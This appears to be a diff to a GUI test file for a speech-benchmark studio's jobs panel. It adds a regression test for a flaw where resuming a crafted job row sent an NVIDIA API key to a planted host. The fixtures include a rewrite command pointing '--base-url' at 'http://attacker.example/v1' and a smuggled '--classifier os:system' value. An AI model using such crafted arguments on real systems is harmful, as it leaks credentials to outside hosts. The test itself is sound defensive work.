@@ -1,5 +1,6 @@
 """The jobs panel: this window's operations and every other process's jobs, with Cancel and Resume."""
 
+import json
 import os
 import signal
 import subprocess
@@ -7,6 +8,7 @@ import sys
 import textwrap
 import threading
 import time
+from pathlib import Path
 
 import pytest
 from PySide6.QtCore import Qt
@@ -101,15 +103,19 @@ def test_a_job_whose_process_died_shows_as_interrupted_with_resume(studio, qtbot
     spawned = []
     monkeypatch.setattr(app_jobs.subprocess, "Popen", lambda argv, **options: spawned.append((argv, options)))
     qtbot.mouseClick(resumable.button, Qt.MouseButton.LeftButton)
+    box = studio.jobs.confirmation  # what will run is shown first; no key goes anywhere, so Resume is the default
+    assert "spokenbench synthesize" in box.informativeText() and "talks to no remote service" in box.informativeText()
+    qtbot.keyClick(box, Qt.Key.Key_Return)
+    qtbot.waitUntil(lambda: len(spawned) == 1, timeout=2_000)
     [(argv, options)] = spawned
     assert argv == [
         sys.executable,
+        "-P",
         "-m",
         "spokenbench.core.cli.main",
         "synthesize",
-        str(project.path),
-        "--tts",
-        "espeak",
+        str(project.path.resolve()),
+        "--tts=espeak",
     ]
     assert options["start_new_session"] is True and options["stdin"] == subprocess.DEVNULL
     assert card_titled(studio, "Synthesizing with espeak").row.state == "resuming"
@@ -198,3 +204,63 @@ def test_the_panel_shows_progress_and_time_left_and_an_empty_state(qtbot):
     assert panel.live_count() == 1
     panel.set_rows([])
     assert panel.cards == {} and panel.empty.isVisibleTo(panel)
+
+
+def _crafted_job(project, kind, argv, label, cwd=None):
+    """A jobs row as the sender of a project folder could write it: 'running' by a process that is gone."""
+    from spokenbench.core.processes import THIS_HOST
+    from spokenbench.core.store import database
+
+    now = database.utc_now()
+    with database.transaction(project.conn) as conn:
+        conn.execute(
+            "INSERT INTO jobs(kind, label, project, pid, host, argv_json, cwd, started_at, heartbeat_at) "
+            "VALUES (?, ?, '/elsewhere', 999999999, ?, ?, ?, ?, ?)",
+            (kind, label, THIS_HOST, json.dumps(argv), cwd, now, now),
+        )
+
+
+@pytest.mark.slow
+def test_resume_of_a_crafted_row_asks_before_sending_a_key_to_a_new_host(studio, qtbot, project, monkeypatch, tmp_path):
+    """Issue 23: a crafted 'interrupted' rewrite with --base-url http://attacker used to run on Resume and send the
+    NVIDIA key there. Now a dialog shows the command, the host and the key; Return and Escape (Cancel is the
+    default) start nothing; only choosing 'Send key and resume' does — with the rebuilt command, in the project's
+    folder, never the row's."""
+    planted = tmp_path / "planted"
+    planted.mkdir()
+    argv = ["rewrite", "/elsewhere", "--base-url", "http://attacker.example/v1", "--model", "m"]
+    _crafted_job(project, "rewrite", argv, "Rewrite (interrupted)", cwd=str(planted))
+    _crafted_job(project, "voices", ["voices", "P", "--classifier", "os:system"], "Voice check (interrupted)")
+    spawned = []
+    monkeypatch.setattr(app_jobs.subprocess, "Popen", lambda argv, **options: spawned.append((argv, options)))
+    qtbot.waitUntil(lambda: card_titled(studio, "Voice check (interrupted)") is not None, timeout=3_000)
+    refused = card_titled(studio, "Voice check (interrupted)")
+    assert not refused.button.isEnabled() and "only evaluate, rewrite" in refused.button.toolTip()
+
+    card = card_titled(studio, "Rewrite (interrupted)")
+    assert card.button.isEnabled()
+    for key in (Qt.Key.Key_Return, Qt.Key.Key_Escape):
+        qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
+        box = studio.jobs.confirmation
+        assert box is not None and box.isVisible()
+        shown = box.informativeText()
+        assert "NVIDIA_API_KEY" in shown and "attacker.example" in shown and "has not sent a key" in shown
+        assert box.defaultButton().text() == "Cancel"
+        qtbot.keyClick(box, key)
+        qtbot.waitUntil(lambda: studio.jobs.confirmation is None, timeout=2_000)
+        assert spawned == [], f"{key} started the job"
+        card = card_titled(studio, "Rewrite (interrupted)")
+
+    qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
+    box = studio.jobs.confirmation
+    send = next(b for b in box.buttons() if b.text() == "Send key and resume")
+    send.setFocus()
+    qtbot.keyClick(send, Qt.Key.Key_Space)
+    qtbot.waitUntil(lambda: len(spawned) == 1, timeout=2_000)
+    [(command, options)] = spawned
+    assert command[1:4] == ["-P", "-m", "spokenbench.core.cli.main"]
+    assert command[4:] == ["rewrite", str(project.path.resolve()), "--base-url=http://attacker.example/v1", "--model=m"]
+    assert Path(options["cwd"]) == project.path and Path(options["cwd"]) != planted
+    from spokenbench.core.resume import ApprovedHosts
+
+    assert ApprovedHosts().knows("attacker.example"), "approved on this machine, not in the project"
